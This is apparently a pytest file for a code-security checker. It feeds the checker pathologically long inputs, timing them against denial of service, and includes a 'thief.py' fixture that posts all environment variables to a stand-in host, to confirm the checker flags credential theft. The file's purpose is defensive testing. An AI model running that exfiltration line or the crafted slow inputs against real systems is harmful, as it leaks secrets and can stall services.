"""A stranger's text costs what its length lets expect, however it is made to cost more."""

from __future__ import annotations

import time
from contextlib import suppress

import pytest

from attacks.test_fuzz import submitted
from checks import CHECKS
from checks.profile import profile_of
from checks.protocol import NoVerdict
from devforge.model.observed import SourceFile, SourceTree

_LENGTH = 60_000
_SECONDS = 5  # of the processor; each of these took minutes, hours or for ever


def long(piece: str) -> str:
    return piece * (_LENGTH // len(piece))


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".npmrc", long("\n")),
        ("pip.conf", long(" \n")),
        ("requirements.txt", long(" \n")),
        ("tox.ini", long("\n")),
        (".env", long(" \n")),
        (".env", long("TOKEN")),
        ("index.html", long("{")),
        ("CLAUDE.md", long("-")),
        (".devforgeignore", long("$") * 10),
        ("yarn.lock", "a@1:\n  version " + long(" ") + '"x" "\n'),
        ("yarn.lock", "a@1:\n  dependencies:\n    a" + long(" ") + '"x" "\n'),
        ("pnpm-lock.yaml", "packages:\n  " + long("/1") + " x:\n"),
        ("a.py", "x = a" + ".b()" * 60 + "\n"),
        ("a.js", "const x = " + long('["a",')),
        ("a.js", long('f("a"+(')),
        ("a.js", long("globalThis ")),
        ("a.js", "globalThis" + long(" ")),
        ("a.js", "const a: " + long(" ") + "\nglobalThis[a]"),
        ("a.js", 'x("a"' + long(' + "a"') + ")"),
        ("a.js", "x(a" + long(".a") + ' + "b")'),
        ("a.js", long("fetch({headers: {")),
        ("panel.html", long("<script>")),
        ("a.json", long("().__class__")),
        ("a.py", "x = " + long("a[0].b(1).c(d=2) + ") + "1\n"),
    ],
    ids=lambda value: repr(value[:24]),
)
def test_no_text_takes_longer_than_its_length(path, text):
    started = time.process_time()
    submission = submitted(SourceTree({path: SourceFile(path, "file", text.encode())}))
    for check in CHECKS:
        with suppress(NoVerdict):
            assert all(finding.problem for finding in check.check(submission))
    profile_of(submission)

    assert time.process_time() - started < _SECONDS


@pytest.mark.parametrize("deep", ["-" * 1200 + "1", "not " * 800 + "a", "a if b else " * 900 + "c"])
def test_what_nests_too_deep_to_be_followed_is_for_a_person_and_hides_no_other_file(deep):
    theft = "import os, requests\nrequests.post('http://a.example/', data=dict(os.environ))\n"
    files = {"deep.py": f"x = {deep}\n", "thief.py": theft}
    submission = submitted(
        SourceTree({path: SourceFile(path, "file", text.encode()) for path, text in files.items()})
    )
    security = next(check for check in CHECKS if check.NAME == "security")
    found = {(finding.rule, finding.at): finding.severity for finding in security.check(submission)}

    assert found["unread-code", "deep.py"] == "person"
    assert found["credential-theft", "thief.py"] in ("person", "block")
